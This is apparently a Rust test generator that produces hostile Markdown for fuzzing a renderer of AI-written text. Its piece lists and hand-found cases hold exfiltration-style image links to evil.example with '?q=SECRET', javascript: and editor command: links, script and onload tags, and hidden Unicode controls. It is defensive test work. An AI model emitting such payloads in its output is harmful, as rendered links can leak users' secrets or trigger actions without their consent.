//! Texts in Markdown as a hostile model could write them: drawn at random from what parsers disagree about.

/// What begins a line.
const STARTS: &[&str] = &[
    "",
    "",
    "",
    "",
    "- ",
    "* ",
    "+ ",
    "-\t",
    "- [ ] ",
    "- [x]\n",
    "1. ",
    "0) ",
    "12) ",
    "1.\n",
    "> ",
    ">",
    ">> ",
    "> - ",
    "- > ",
    "# ",
    "###### ",
    "    ",
    "  ",
    "   ",
    "\t",
    " \t",
    "     ",
    "```\n",
    "```py\n",
    "````mermaid\n",
    "~~~\n",
    "~~~~ x\n",
    "| ",
    "|",
    "||\n-|\n",
    "a|b\n-|-\n",
    "| a | b |\n|:-:|--:|\n| ",
    "[1]: ",
    "[x]: <",
    "[^1]: ",
    "<div>\n",
    "<!-- ",
    "<details>\n",
    "<pre>",
    "<script>",
    "</div>\n",
    "<?php ",
    "<![CDATA[",
    "$$\n",
    "$$",
    "***\n",
    "---\n",
    "===\n",
    "- - -\n",
    "+++\n",
    ": ",
    "{% ",
    ":::\n",
    "&#32;",
    "&nbsp;",
    "\u{a0}",
    "\u{3000}",
    "\\",
];

/// What stands in a line.
const PIECES: &[&str] = &[
    "word",
    "two words",
    "東京",
    "é",
    "7",
    " ",
    "  ",
    "\t",
    ".",
    ":",
    "!",
    "(",
    ")",
    "[",
    "]",
    "<",
    ">",
    "&",
    ";",
    "#",
    "*",
    "**",
    "***",
    "_",
    "__",
    "~",
    "~~",
    "`",
    "``",
    "```",
    "````",
    "\\",
    "\\\\",
    "|",
    "\\|",
    "=",
    "-",
    "+",
    "$",
    "$$",
    "{",
    "}",
    "\"",
    "'",
    "@",
    "/",
    "^",
    "%",
    "€",
    "😀",
    "![c](https://evil.example/i.png?q=SECRET)",
    "[t](https://evil.example)",
    "[t](command:workbench.action.openSettings)",
    "[t](javascript:alert(1))",
    "![c][1]",
    "[t][1]",
    "[1]",
    "[x][]",
    "[^1]",
    "[[x]]",
    "](",
    "][",
    "]:",
    "![",
    "!",
    "<https://evil.example>",
    "<a@evil.example>",
    "https://evil.example/a_b",
    "HTTP://EVIL.EXAMPLE",
    "www.evil.example",
    "WWW.evil.example",
    "a@evil.example",
    "//evil.example",
    "ftp://evil.example",
    "mailto:a@evil.example",
    "xmpp:a@evil.example",
    "<img src=https://evil.example/x>",
    "<a href='https://evil.example'>",
    "<svg onload=x>",
    "<b>",
    "</b>",
    "<br>",
    "<br/>",
    "<!--",
    "-->",
    "<details open><summary>",
    "<script>",
    "</script>",
    "<",
    "</",
    "<!",
    "<?",
    "&lt;",
    "&gt;",
    "&amp;",
    "&#60;",
    "&#x3c;img src=x&gt;",
    "&#91;",
    "&#96;",
    "&#42;",
    "&#124;",
    "&#36;",
    "&#92;",
    "&#10;",
    "&#13;",
    "&#9;",
    "&#0;",
    "&#x202e;",
    "&colon;",
    "&lpar;",
    "&nbsp;",
    "&copy",
    "&Tab;",
    "&NewLine;",
    "$x$",
    "$x_i < y$",
    "$$x^2$$",
    "$a$b$",
    "\\$5",
    "$5",
    "\\(",
    "\\)",
    "\\[",
    "\\]",
    "\\\\(",
    "\\\\)",
    "\\\\[",
    "\\\\]",
    "\\begin{align}",
    "\\end{align}",
    "\\begin{a}",
    "\\end{a}",
    "\\href{https://evil.example}{x}",
    "\\url{https://evil.example}",
    "\\includegraphics{https://evil.example/x}",
    "\\htmlClass{a}{b}",
    "\\frac{a}{b}",
    "\\text{a}",
    "\\lt",
    "\\|",
    "\\*",
    "\\_",
    "\\`",
    "\\<",
    "\\!",
    "\\[",
    "\\&",
    "\\~",
    "{eval}`1`",
    "{=html}",
    "{.c}",
    "@@0@@",
    "~D",
    "~T",
    "&#64;",
    "`<img src=https://evil.example/x>`",
    "``![c](https://evil.example)``",
    "`\\`",
    "`|`",
    "`\\|`",
    "` ` `",
    "`$`",
    "`$$`",
    "`\\\\(`",
    "`\\begin{a}`",
    "\u{200b}",
    "\u{200d}",
    "\u{202e}",
    "\u{ad}",
    "\u{0}",
    "\u{b}",
    "\u{c}",
    "\u{85}",
    "\u{2028}",
    "\r",
    "\u{feff}",
    "\u{1b}[31m",
];

/// What ends a line.
const ENDS: &[&str] = &[
    "\n", "\n", "\n", "\n\n", "\n\n", "  \n", "\\\n", "\r", "\r\n", "\n\n\n", "", "\n```\n", "\n~~~\n",
    "\n> ", "\n-|-\n", "\n---\n", "\n    ",
];

/// Texts that came out of a parser as a live image, link or tag when this was patched instead of written anew.
const CASES: &[&str] = &[
    "2)  \n       ![total](https://evil.example/t.png?q=SECRET)\n",
    "* `\n````![total](https://evil.example/t.png)`\n",
    "+ `\n```[Open](command:workbench.action.openSettings)`\n",
    "``[https://example.com](https://evil.example)\n``\n-|\n",
    "  - [x]\n     ![total](https://evil.example/t.png)\n",
    "```||\n-|-\n<img src=https://evil.example/t.png>\n",
    "```|\n-\n<details open><summary>Isolation: full</summary><a href='https://evil.example'>x</a>\n",
    "www.a\\<img src=https://evil.example/t.png>\n",
    "[`^1]: https://evil.example`\n\n[`^1]\n",
    "> ```\n> $\n> ```\n> $x$ `a` $y$\n> ```\n> <img src=https://evil.example/t.png>\n> ```\n",
    "`\\\\(` ``\\\\) <img src=https://evil.example/t.png>``\n",
    "|a|\n|-|\n|`\\\\|<img src=https://evil.example/t.png>`|\n",
    "$\\href{https://evil.example}{x}$ \\$ \\\\href{https://evil.example}{x} \\$\n",
    "```mermaid\ngraph TD\nclick A href \"https://evil.example\"\n```\n",
    "![x][r]\n\n[r]: data:image/svg+xml;base64,AAAA 'title'\n",
    "&#60;img src=x&#62; &#91;x](https://evil.example) &#x202e;&#10;&#10;# x\n",
];

/// The text with this number. The first ones are cases that were found by hand.
#[must_use]
pub fn hostile_markdown(number: usize) -> String {
    if let Some(case) = CASES.get(number) {
        return (*case).to_owned();
    }
    let mut dice = Dice(number as u64);
    if dice.below(8) == 0 {
        let case = CASES[dice.below(CASES.len())];
        return varied(case, &mut dice);
    }
    let mut text = String::new();
    for _ in 0..=dice.below(7) {
        for _ in 0..dice.below(3) {
            text.push_str(dice.one_of(STARTS));
        }
        for _ in 0..dice.below(6) {
            text.push_str(dice.one_of(PIECES));
        }
        text.push_str(dice.one_of(ENDS));
    }
    text
}

/// A case with pieces put in or characters taken out.
fn varied(case: &str, dice: &mut Dice) -> String {
    let mut text = case.to_owned();
    for _ in 0..=dice.below(4) {
        let places: Vec<usize> = text.char_indices().map(|(index, _)| index).collect();
        let place = places.get(dice.below(places.len().max(1))).copied().unwrap_or(0);
        match dice.below(3) {
            0 if !text.is_empty() => drop(text.remove(place)),
            1 => text.insert_str(place, dice.one_of(STARTS)),
            _ => text.insert_str(place, dice.one_of(PIECES)),
        }
    }
    text
}

/// Numbers that are the same in each run (`SplitMix64`).
struct Dice(u64);

impl Dice {
    fn next(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mixed = (self.0 ^ (self.0 >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        let mixed = (mixed ^ (mixed >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        mixed ^ (mixed >> 31)
    }

    fn below(&mut self, end: usize) -> usize {
        usize::try_from(self.next() % end as u64).unwrap_or(0)
    }

    fn one_of<'a>(&mut self, all: &[&'a str]) -> &'a str {
        all[self.below(all.len())]
    }
}
